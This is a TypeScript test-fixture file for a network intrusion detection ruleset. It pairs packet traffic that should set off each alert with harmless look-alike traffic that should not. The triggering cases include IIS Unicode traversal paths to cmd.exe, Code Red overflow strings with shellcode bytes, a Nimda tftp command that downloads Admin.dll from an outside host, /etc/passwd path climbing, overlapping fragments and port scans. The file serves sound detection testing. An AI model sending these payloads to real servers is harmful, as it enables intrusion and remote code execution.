// For each rule that comes with stray: traffic that gives its alert, and traffic much like it that does not.
// Apart from the rules because they are text; a test holds the two together.
// Always holds: every sid of rules/stray.rules is here once.

import { concat, ethernet, filler, ipv4, tcp } from "../frame.js";
import type { TimedFrame } from "../letter.js";
import { answer, asked, fragments, getText, opening, SERVER, STRANGER, segment, timed } from "./talk.js";

export interface StarterCase {
  readonly sid: number;
  readonly name: string;
  readonly hit: readonly TimedFrame[];
  readonly miss: readonly TimedFrame[];
  /** The request, where the hit is one and nothing else: however it is cut into segments, it gives the alert. */
  readonly request?: string;
}

const CODE_RED = (letter: string): string =>
  `/default.ida?${letter.repeat(224)}%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801=a`;
const ORDINARY = "GET /index.html HTTP/1.0\r\nHost: www\r\nAccept: */*\r\n\r\n";

/** Data of a conversation that nobody saw open; `times` sent, each the same. */
function stray(times: number, flags: string, sport = 40_000): Uint8Array[] {
  return Array.from({ length: times }, () => segment("GET /c/winnt HTTP/1.0\r\n\r\n", { flags, sport }));
}

/** The same place of a stream with other bytes. */
function overlapped(second: string): Uint8Array[] {
  return [...opening(), segment("GET /first-version HTTP/1.0\r\n"), segment(second)];
}

/** A fragment of the same datagram and place, with other bytes. */
function crossed(other: number): Uint8Array[] {
  const [first, ...rest] = fragments(filler(200));
  const [, again] = fragments(concat(filler(56), filler(144, other)));
  return [rest[0]!, again!, first!, ...rest.slice(1)];
}

const syns = (count: number): Uint8Array[] =>
  Array.from({ length: count }, (_, i) => segment("", { flags: "S", ack: 0, dport: 1 + i, sport: 50_000 }));

function land(src: string): Uint8Array {
  return ethernet({}, ipv4({ src, dst: SERVER }, tcp({ sport: 139, dport: 139, flags: "S" })));
}

function one(
  sid: number,
  name: string,
  hit: readonly Uint8Array[],
  miss: readonly Uint8Array[],
  stepMs = 1,
): StarterCase {
  return { sid, name, hit: timed(hit, stepMs), miss: timed(miss, stepMs) };
}

/** A request in a whole conversation, and another one. */
function request(sid: number, name: string, hit: string, miss: string): StarterCase {
  return { ...one(sid, name, asked(hit), asked(miss)), request: hit };
}

/** The same for requests of which only the path is told. */
function path(sid: number, name: string, hit: string, miss: string): StarterCase {
  return request(sid, name, getText(hit), getText(miss));
}

export const STARTER_CASES: readonly StarterCase[] = [
  path(9000001, "iis-c1-1c", "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", "/scripts/..%2f../%c1%1c"),
  path(9000002, "iis-c0-af", "/scripts/..%c0%af../winnt/x", "/caf%c3%a9../%c0%af"),
  path(9000003, "iis-c0-2f", "/scripts/..%c0%2f../winnt/x", "/scripts/..%2f../%c0%2f"),
  path(9000004, "iis-c1-9c", "/msadc/..%c1%9c../x", "/msadc/..%5c../%c1%9c"),
  path(9000005, "iis-255c", "/scripts/..%255c../winnt/x", "/search?discount=..%25&off"),
  path(9000006, "iis-35-63", "/scripts/..%%35%63../winnt/x", "/list?a=..%%36"),
  path(
    9000011,
    "cmd-exe",
    "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
    "/wiki/winnt/system32/cmd.exe.html?action=edit",
  ),
  path(9000012, "root-exe", "/scripts/root.exe?/c+dir", "/downloads/root.exe"),
  request(
    9000013,
    "nimda-header",
    "GET / HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n",
    "GET / HTTP/1.0\r\nHost: www\r\nConnection: close\r\n\r\n",
  ),
  path(
    9000014,
    "nimda-tftp",
    "/scripts/root.exe?/c+tftp%20-i%20198.51.100.7%20GET%20Admin.dll%20c:\\Admin.dll",
    "/help?topic=tftp%20-i%20host%20PUT%20Admin.dll",
  ),
  path(9000021, "code-red", CODE_RED("N"), "/default.ida?NNNNNNNN"),
  path(9000022, "code-red-2", CODE_RED("X"), "/default.ida?q=XXXXXXXX%u9090"),
  request(
    9000023,
    "code-red-2-body",
    `POST /x HTTP/1.0\r\nContent-Length: 120\r\n\r\n${"x".repeat(90)}CodeRedII\0${"y".repeat(20)}`,
    getText("/search?q=CodeRedII"),
  ),
  path(9000031, "climbing-path", "/a/%2e%2e/%2e%2e/etc/passwd", "/a/b/../c.html"),
  path(9000032, "overlong-path", "/a%c0%ae%c0%ae/b", "/caf%c3%a9"),
  path(9000033, "path-encoded-twice", "/a%252e%252e/b", "/go?url=http%253A%252F%252Fwww"),
  one(
    9000101,
    "fin-with-data",
    stray(2, "FPA"),
    [...opening(), segment(ORDINARY, { flags: "FPA" }), segment(ORDINARY, { flags: "FPA" })],
    3000,
  ),
  one(9000102, "unanswered", stray(2, "PA"), [...opening(), segment(ORDINARY), segment(ORDINARY)], 3000),
  one(
    9000103,
    "leaky-filter",
    [...stray(2, "FPA"), ...stray(2, "FPA", 40_001)],
    // One alone may be stale; and who is answered converses.
    [
      ...stray(2, "FPA"),
      ...[...stray(2, "PA", 40_001), answer("HTTP/1.0 200 OK\r\n\r\n", { sport: 40_001 })].toReversed(),
    ],
    3000,
  ),
  one(
    9000104,
    "overlap-conflict",
    overlapped("GET /other-version HTTP/1.0\r\n"),
    overlapped("GET /first-version HTTP/1.0\r\n"),
  ),
  one(9000105, "fragment-overlap", crossed(99), crossed(56)),
  one(9000201, "null-scan", [segment("", { flags: "" })], [...opening(), segment("", { flags: "" })]),
  one(
    9000202,
    "fin-scan",
    [segment("", { flags: "F" })],
    [...opening(), segment("", { flags: "FA" }), segment("", { flags: "F" })],
  ),
  one(9000203, "xmas-scan", [segment("", { flags: "FPU" })], [...opening(), segment("", { flags: "FPUA" })]),
  one(9000204, "syn-scan", syns(130), syns(90), 10),
  one(9000205, "land", [land(SERVER)], [land(STRANGER)]),
  one(9000206, "syn-fin", [segment("", { flags: "SF" })], [segment("", { flags: "S" })]),
];
